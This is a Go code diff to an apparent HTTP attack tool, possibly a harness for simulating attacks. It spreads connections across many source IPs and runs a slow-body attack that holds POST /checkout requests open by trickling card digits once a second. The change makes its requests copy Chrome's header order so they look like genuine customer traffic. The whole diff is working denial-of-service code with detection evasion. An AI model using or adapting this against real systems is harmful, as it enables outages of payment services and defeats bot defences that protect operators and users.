@@ -1,6 +1,7 @@
 package main
 
 import (
+	"bufio"
 	"context"
 	"fmt"
 	"io"
@@ -121,14 +122,8 @@ type attacker struct {
 func newAttacker(addrs []net.IP, perAddr int, timeout time.Duration) *attacker {
 	a := &attacker{}
 	for _, ip := range addrs {
-		tr := &http.Transport{
-			Proxy:               nil,
-			DialContext:         (&net.Dialer{LocalAddr: &net.TCPAddr{IP: ip}, Timeout: 3 * time.Second}).DialContext,
-			MaxConnsPerHost:     perAddr,
-			MaxIdleConnsPerHost: perAddr,
-			IdleConnTimeout:     30 * time.Second,
-			DisableCompression:  true,
-		}
+		// Chrome's header order too: the attackers copy the customers.
+		tr := newChromeTransport((&net.Dialer{LocalAddr: &net.TCPAddr{IP: ip}, Timeout: 3 * time.Second}).DialContext, perAddr)
 		a.clients = append(a.clients, &http.Client{Transport: tr, Timeout: timeout,
 			CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }})
 		a.slots = append(a.slots, make(chan struct{}, perAddr))
@@ -359,9 +354,10 @@ func runSlowBodies(ctx context.Context, cfg attackConfig, st *attackStats) {
 			h.Set("Content-Type", "application/x-www-form-urlencoded")
 			h.Set("Content-Length", "8192")
 			var head strings.Builder
-			fmt.Fprintf(&head, "POST /checkout HTTP/1.1\r\nHost: %s\r\n", cfg.base.Host)
-			_ = h.Write(&head)
-			head.WriteString("\r\ncard=")
+			bw := bufio.NewWriter(&head)
+			writeChromeRequest(bw, &http.Request{Method: http.MethodPost, URL: &url.URL{Path: "/checkout"}, Host: cfg.base.Host, Header: h}, nil)
+			bw.WriteString("card=")
+			bw.Flush()
 			_, err = io.WriteString(c, head.String())
 			for err == nil && sleepCtx(ctx, time.Second) {
 				_, err = c.Write([]byte("4111111111"))
